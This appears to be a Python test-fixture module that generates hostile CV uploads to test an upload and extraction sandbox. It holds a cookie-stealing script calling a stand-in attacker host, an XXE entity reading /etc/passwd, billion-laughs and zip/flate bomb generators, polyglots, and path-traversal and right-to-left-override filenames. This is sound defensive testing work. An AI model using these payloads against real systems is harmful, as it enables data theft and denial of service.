"""Hostile CV uploads, generated in code (no binaries in the repository), for tests at every layer.

``hostile_corpus()`` returns files an attacker or a broken tool might upload, each with the outcome the
system must produce:

* ``"reject"``: ``detect_kind`` returns ``None`` (or the file is otherwise refused at upload), so the
  upload API answers 415 and nothing is stored;
* ``"fail"``: the upload is accepted as the kind its bytes say, and sandboxed extraction raises a
  ``DocumentError`` whose ``reason`` says why, within the sandbox's limits;
* ``"accept-sanitised"``: the bytes are a good CV and only the file name is hostile; the name must be
  cleaned before it is stored or shown.

The whole corpus is about 4 MB and builds in about a second (then cached); every file is under the 5 MB
upload limit, so the ones meant to fail reach the worker. Everything is fictional. With the default
sandbox limits the slowest items take ~12 s (pdf-slow-layout, stopped by the memory limit) and ~1-2 s
(pdf-flate-bomb); every other one fails or is rejected in well under a second.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from datetime import UTC, datetime

import docx
from fpdf import FPDF

__all__ = ["HostileFile", "hostile_corpus"]

EXPECTATIONS = ("reject", "fail", "accept-sanitised")

_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
# Fixed dates keep the bytes identical from run to run (fpdf2 and zipfile stamp the current time).
_FIXED_DATE = datetime(2024, 1, 1, tzinfo=UTC)
_FIXED_DATE_TUPLE = (2024, 1, 1, 0, 0, 0)
_CV_LINES = (
    "Jordan Placeholder - Senior Data Engineer",
    "jordan.placeholder@example.test - +44 20 7946 0000 - Leeds",
    "Profile: data engineer with nine years of experience building batch and streaming pipelines.",
    "Experience: Example Logistics Ltd, 2019-2025 - led the move of nightly reports to Airflow and dbt.",
    "Experience: Sample Retail plc, 2015-2019 - built the PostgreSQL warehouse and Python ETL jobs.",
    "Education: BSc Computer Science, University of Nowhere, 2015.",
    "Skills: Python, SQL, PostgreSQL, Airflow, dbt, Kafka, Docker, Kubernetes, AWS.",
    "Languages: English (native), German (conversational).",
)


@dataclass(frozen=True)
class HostileFile:
    """One hostile upload: ``name`` identifies the case, ``filename`` is what the client sends."""

    name: str
    filename: str
    data: bytes
    expect: str  # one of EXPECTATIONS
    description: str = ""

    def __post_init__(self) -> None:
        if self.expect not in EXPECTATIONS:
            raise ValueError(f"unknown expectation {self.expect!r}")


@functools.cache
def _corpus() -> tuple[HostileFile, ...]:
    cv_pdf = _cv_pdf("Jordan Placeholder")
    return (
        HostileFile(
            "exe-renamed-pdf",
            "cv.pdf",
            _pe_pdf_polyglot(cv_pdf),
            "reject",
            "a Windows executable (MZ header) with a PDF inside its first KiB, named .pdf",
        ),
        HostileFile(
            "html-renamed-pdf",
            "cv.pdf",
            _html_page(),
            "reject",
            "an HTML page with a script, and a PDF header in a comment, named .pdf",
        ),
        HostileFile(
            "pdf-zip-polyglot",
            "cv.pdf",
            _zip_pdf_polyglot(cv_pdf),
            "reject",
            "a ZIP (not a DOCX) whose first entry is a stored PDF, so a PDF header sits in the first KiB",
        ),
        HostileFile(
            "docx-zip-bomb",
            "cv.docx",
            _docx_zip_bomb(declared=4_000_000_000),
            "reject",
            "a DOCX whose document.xml declares 4 GB and inflates to 256 MiB from ~270 KB",
        ),
        HostileFile(
            "docx-zip-bomb-understated",
            "cv.docx",
            _docx_zip_bomb(declared=20_000),
            "fail",
            "the same bomb with document.xml declaring 20 KB: nothing may inflate past the declared size",
        ),
        HostileFile(
            "docx-bad-deflate",
            "cv.docx",
            _docx_bad_deflate(),
            "fail",
            "a DOCX whose document.xml is a deflate stream referring back before its own start (the "
            "decompressor's own error; found by fuzz/fuzz_docx.py)",
        ),
        HostileFile(
            "docx-future-zip-version",
            "cv.docx",
            _docx_future_zip_version(),
            "reject",
            "a DOCX whose central directory says its first entry needs zip version 13.2 to extract (zipfile "
            "refuses it with NotImplementedError; found by fuzz/fuzz_docx.py)",
        ),
        HostileFile(
            "docx-nameless-entry",
            "cv.docx",
            _docx_nameless_entry(),
            "fail",
            "a good DOCX with one more zip entry whose name is empty (zipfile's is_dir() raises IndexError on "
            "it; found by fuzz/fuzz_docx.py)",
        ),
        HostileFile(
            "docx-encrypted-entry",
            "cv.docx",
            _docx_encrypted_entry(),
            "fail",
            "a DOCX whose first zip entry is flagged as encrypted (zipfile raises RuntimeError asking for a "
            "password; found by fuzz/fuzz_docx.py)",
        ),
        HostileFile(
            "docx-10000-entries",
            "cv.docx",
            _docx_many_entries(10_000),
            "reject",
            "a valid DOCX with 10,000 extra zip entries",
        ),
        HostileFile(
            "docx-xxe",
            "cv.docx",
            _docx_with_document(_XXE_DOCUMENT),
            "fail",
            "document.xml declares an external entity reading /etc/passwd and uses it in the text",
        ),
        HostileFile(
            "docx-billion-laughs",
            "cv.docx",
            _docx_with_document(_BILLION_LAUGHS_DOCUMENT),
            "fail",
            "document.xml declares nested entities expanding to 10^9 'lol's",
        ),
        HostileFile(
            "docx-huge-text",
            "cv.docx",
            _docx_huge_text(),
            "fail",
            "a DOCX of ~700,000 characters of text, more than the sandbox's output limit",
        ),
        HostileFile(
            "pdf-encrypted",
            "cv.pdf",
            _encrypted_pdf(),
            "fail",
            "a PDF that needs a user password to open",
        ),
        HostileFile(
            "pdf-truncated",
            "cv.pdf",
            cv_pdf[: len(cv_pdf) // 2],
            "fail",
            "the first half of a CV PDF (upload cut off)",
        ),
        HostileFile(
            "pdf-10000-pages",
            "cv.pdf",
            _many_pages_pdf(10_000),
            "fail",
            "a PDF of 10,000 pages sharing one content stream",
        ),
        HostileFile(
            "pdf-slow-layout",
            "cv.pdf",
            _slow_layout_pdf(),
            "fail",
            "one page of 3,000 scattered words without space glyphs: pdfminer's layout analysis is "
            "quadratic in text boxes (minutes of CPU, gigabytes), pdfium reads it in milliseconds",
        ),
        HostileFile(
            "pdf-flate-bomb",
            "cv.pdf",
            _flate_bomb_pdf(),
            "fail",
            "a page whose content stream inflates to 1 GiB of spaces from ~1 MB",
        ),
        HostileFile(
            "txt-invalid-utf8",
            "cv.txt",
            _invalid_utf8(),
            "reject",
            "short words between overlong, surrogate, 5-byte and stray continuation UTF-8 sequences",
        ),
        HostileFile(
            "txt-nul-bytes",
            "cv.txt",
            _nul_riddled_text(),
            "reject",
            "a CV's text with irregular runs of NUL bytes (neither UTF-16 nor a few stray NULs)",
        ),
        HostileFile(
            "name-path-traversal",
            "../../etc/passwd.pdf",
            _cv_pdf("Robin Traversal"),
            "accept-sanitised",
            "a good CV PDF whose name climbs out of the upload directory",
        ),
        HostileFile(
            "name-rtl-override",
            # U+202E reverses what follows on screen: this displays as "cvfdp.exe". The brief's classic
            # "cv\u202efdp.exe" (shown as "cvexe.pdf") really ends in .exe, which intake refuses outright
            # (415 extension_mismatch) before the name could be sanitised, so it would test nothing here.
            "cv\u202eexe.pdf",
            _cv_pdf("Casey Override"),
            "accept-sanitised",
            "a good CV PDF whose name carries a right-to-left override",
        ),
    )


def hostile_corpus() -> list[HostileFile]:
    """Every hostile file, built on first use and cached (a new list each call; the items are frozen)."""
    return list(_corpus())


# --- PDF --------------------------------------------------------------------------------------------


def _cv_pdf(person: str) -> bytes:
    """A one-page fictional CV; ``person`` makes each copy a different candidate (own name and e-mail)."""
    pdf = FPDF()
    pdf.set_creation_date(_FIXED_DATE)
    pdf.set_font("Helvetica", size=11)
    pdf.add_page()
    email = person.lower().replace(" ", ".")
    for line in _CV_LINES:
        line = line.replace("Jordan Placeholder", person).replace("jordan.placeholder", email)
        pdf.multi_cell(0, 6, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def _encrypted_pdf() -> bytes:
    pdf = FPDF()
    pdf.set_creation_date(_FIXED_DATE)
    pdf.set_encryption(owner_password="owner-secret", user_password="user-secret")  # noqa: S106 - a test fixture
    pdf.set_font("Helvetica", size=11)
    pdf.add_page()
    pdf.multi_cell(0, 6, "\n".join(_CV_LINES))
    return bytes(pdf.output())


def _pdf_file(objects: list[bytes]) -> bytes:
    """A PDF of the given objects (numbered from 1; object 1 is the catalog) with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(data: bytes, *, deflated: bytes | None = None) -> bytes:
    body = deflated if deflated is not None else zlib.compress(data, 9)
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(body), body)


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _one_page_pdf(content_stream: bytes) -> bytes:
    return _pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            _FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents 5 0 R >>",
            content_stream,
        ]
    )


def _many_pages_pdf(count: int) -> bytes:
    """``count`` pages, all drawing the same content stream; media box and fonts inherited (~60 B a page)."""
    content = b"BT /F1 11 Tf 72 770 Td (Jordan Placeholder - Senior Data Engineer - page of a book) Tj ET"
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> >>"
        % (kids, count),
        _FONT,
        _stream(content),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"] * count
    return _pdf_file(objects)


def _slow_layout_pdf(columns: int = 40, rows: int = 75) -> bytes:
    """Words in a sparse grid, each far enough from the others to be its own pdfminer text box.

    pdfminer's box grouping compares every pair of boxes (~4.5 million pairs here, minutes of CPU and
    hundreds of MB). Every 40th word is 16 letters long so the page looks glued to the router and is sent
    to pdfminer; there is no space object to re-space from.
    """
    ops = [b"BT /F1 3 Tf"]
    pitch_x, pitch_y = 575 / columns, 820 / rows
    for row in range(rows):
        for column in range(columns):
            word = b"Responsibilities" if (row * columns + column) % 40 == 0 else b"abc"
            ops.append(b"1 0 0 1 %.2f %.2f Tm (%s) Tj" % (10 + column * pitch_x, 830 - row * pitch_y, word))
    ops.append(b"ET")
    return _one_page_pdf(_stream(b"\n".join(ops)))


def _flate_bomb_pdf(mebibytes: int = 1024) -> bytes:
    prefix = b"BT /F1 11 Tf 72 770 Td (Jordan Placeholder) Tj ET\n"
    suffix = b"\nBT /F1 11 Tf 72 750 Td (Senior Data Engineer) Tj ET"
    raw = _repeated_deflate(prefix, b" " * (1 << 20), mebibytes, suffix)
    # zlib header; the Adler-32 trailer is left zero: a reader only finds that out after inflating it all.
    return _one_page_pdf(_stream(b"", deflated=b"\x78\xda" + raw + bytes(4)))


def _repeated_deflate(prefix: bytes, unit: bytes, count: int, suffix: bytes) -> bytes:
    """A raw deflate stream of ``prefix + unit * count + suffix`` in O(len(unit)) time.

    After a full flush the compressor starts afresh, byte-aligned, so compressing the same unit again
    gives the same bytes: one compressed unit is repeated ``count`` times.
    """

    def segment(data: bytes, mode: int) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(mode)

    return (
        segment(prefix, zlib.Z_FULL_FLUSH)
        + segment(unit, zlib.Z_FULL_FLUSH) * count
        + segment(suffix, zlib.Z_FINISH)
    )


# --- polyglots and renamed files --------------------------------------------------------------------


def _pe_pdf_polyglot(pdf: bytes) -> bytes:
    dos_header = (
        b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\x00\x00\x00"
    )
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    pe = b"PE\x00\x00\x4c\x01\x03\x00" + bytes(248)
    head = (dos_header + stub).ljust(0x80, b"\x00") + pe
    return head + pdf  # the PDF header lands at ~0x180, inside the first KiB


def _html_page() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>CV</title>\n"
        b"<script>fetch('https://attacker.invalid/?c=' + document.cookie)</script>\n"
        b"<!-- %PDF-1.7 -->\n</head><body><h1>Jordan Placeholder</h1><p>Senior Data Engineer</p>"
        b"</body></html>\n"
    )


def _zip_pdf_polyglot(pdf: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("cv.pdf", _FIXED_DATE_TUPLE), pdf, compress_type=zipfile.ZIP_STORED)
        archive.writestr(zipfile.ZipInfo("readme.txt", _FIXED_DATE_TUPLE), b"not a Word document")
    return buffer.getvalue()


# --- DOCX -------------------------------------------------------------------------------------------


@functools.cache
def _docx_parts() -> dict[str, bytes]:
    document = docx.Document()
    for line in _CV_LINES:
        document.add_paragraph(line)
    document.core_properties.created = _FIXED_DATE.replace(tzinfo=None)
    document.core_properties.modified = _FIXED_DATE.replace(tzinfo=None)
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _docx_with_document(document_xml: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    parts = {**_docx_parts(), "word/document.xml": document_xml, **(extra or {})}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(
                zipfile.ZipInfo(name, _FIXED_DATE_TUPLE), content, compress_type=zipfile.ZIP_DEFLATED
            )
    return buffer.getvalue()


def _document_xml(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
        f'<w:document xmlns:w="{_W_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


_XXE_DOCUMENT = _document_xml(
    _paragraph("Jordan Placeholder") + _paragraph("&xxe;"),
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
)
_LAUGHS = ['<!ENTITY lol "lol">'] + [
    f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "&lol;") * 10}">' for i in range(1, 10)
]
_BILLION_LAUGHS_DOCUMENT = _document_xml(
    _paragraph("&lol9;"), "<!DOCTYPE w:document [\n" + "\n".join(_LAUGHS) + "\n]>\n"
)


def _docx_huge_text() -> bytes:
    words = ("pipeline", "warehouse", "kafka", "airflow", "python", "postgres", "docker", "latency")
    paragraphs = (
        _paragraph(" ".join(f"{words[(i * 7 + j * 3) % 8]}{(i * 31 + j) % 997}" for j in range(40)))
        for i in range(2_000)
    )
    return _docx_with_document(_document_xml("".join(paragraphs)))


def _docx_many_entries(count: int) -> bytes:
    entries = [
        (name, _raw_deflate(data), len(data), zlib.crc32(data)) for name, data in _docx_parts().items()
    ]
    empty = _raw_deflate(b"")
    entries += [(f"customXml/item{i}.bin", empty, 0, 0) for i in range(count)]
    return _raw_zip(entries)


def _docx_zip_bomb(*, declared: int) -> bytes:
    """A DOCX whose document.xml is one run of 256 MiB of letters, deflated to ~270 KB.

    Built by hand: zipfile cannot write a size it did not see. ``declared`` goes into both headers as the
    uncompressed size (4 GB for the honest-looking bomb, 20 KB for the understated one); the CRC is left
    zero, since any reader that inflates this far has already lost.
    """
    prefix, suffix = _document_xml("\0").split(b"\0")
    body = _repeated_deflate(
        prefix + b"<w:p><w:r><w:t>", b"a" * (1 << 20), 256, b"</w:t></w:r></w:p>" + suffix
    )
    entries = [
        (name, _raw_deflate(data), len(data), zlib.crc32(data))
        for name, data in _docx_parts().items()
        if name != "word/document.xml"
    ]
    entries.append(("word/document.xml", body, declared, 0))
    return _raw_zip(entries)


def _docx_bad_deflate() -> bytes:
    """A DOCX whose document.xml is one fixed-Huffman deflate block opening with a match 1 byte back.

    Bits, first to last: BFINAL 1, BTYPE 01 (fixed codes), literal/length code 257 (a match of 3: 0000001),
    distance code 0 (distance 1: 00000). With nothing output yet, zlib answers "invalid distance too far
    back". Size and CRC are those of the real part, so only the inflating can fail.
    """
    parts = _docx_parts()
    document = parts["word/document.xml"]
    entries = [
        (name, _raw_deflate(data), len(data), zlib.crc32(data))
        for name, data in parts.items()
        if name != "word/document.xml"
    ]
    bad_deflate = bytes([0b00000011, 0b00000010, 0b00000000])
    entries.append(("word/document.xml", bad_deflate, len(document), zlib.crc32(document)))
    return _raw_zip(entries)


def _docx_future_zip_version() -> bytes:
    """A good DOCX but for the "version needed to extract" of its first central directory entry: 13.2."""
    data = bytearray(_docx_with_document(_document_xml(_paragraph("Jordan Placeholder"))))
    central = data.index(b"PK\x01\x02")
    data[central + 6 : central + 8] = struct.pack("<H", 132)
    return bytes(data)


def _docx_nameless_entry() -> bytes:
    entries = [
        (name, _raw_deflate(data), len(data), zlib.crc32(data)) for name, data in _docx_parts().items()
    ]
    entries.append(("", _raw_deflate(b"x"), 1, zlib.crc32(b"x")))
    return _raw_zip(entries)


def _docx_encrypted_entry() -> bytes:
    """A good DOCX but for general purpose flag bit 0 (encrypted) on its first entry, in both headers."""
    entries = [
        (name, _raw_deflate(data), len(data), zlib.crc32(data)) for name, data in _docx_parts().items()
    ]
    data = bytearray(_raw_zip(entries))
    central = data.index(b"PK\x01\x02")
    for flags_at in (6, central + 8):
        data[flags_at] |= 0x01
    return bytes(data)


def _raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of deflated entries (name, raw deflate data, declared size, CRC) with sizes as given."""
    out = bytearray()
    central = bytearray()
    for name, data, size, crc in entries:
        encoded = name.encode()
        offset = len(out)
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), size)
        out += b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded + data
        central += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset)
            + encoded
        )
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central + b"PK\x05\x06" + end)


# --- text -------------------------------------------------------------------------------------------


def _invalid_utf8() -> bytes:
    bad = (
        b"\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xf8\x88\x80\x80\x80",
        b"\x80\xbf",
        b"\xfe\xff",
        b"\xf4\x90\x80\x80",
    )
    return b" ".join(bad[i % len(bad)] + b"cv" + bad[(i * 5 + 1) % len(bad)] for i in range(800))


def _nul_riddled_text() -> bytes:
    text = "\n".join(_CV_LINES).encode()
    # Runs of 1-7 NULs after every 3-10 bytes: too many to be strays, too irregular to be UTF-16.
    out = bytearray()
    position = step = 0
    while position < len(text):
        step = step % 8 + 3
        out += text[position : position + step] + b"\x00" * (step % 7 + 1)
        position += step
    return bytes(out)
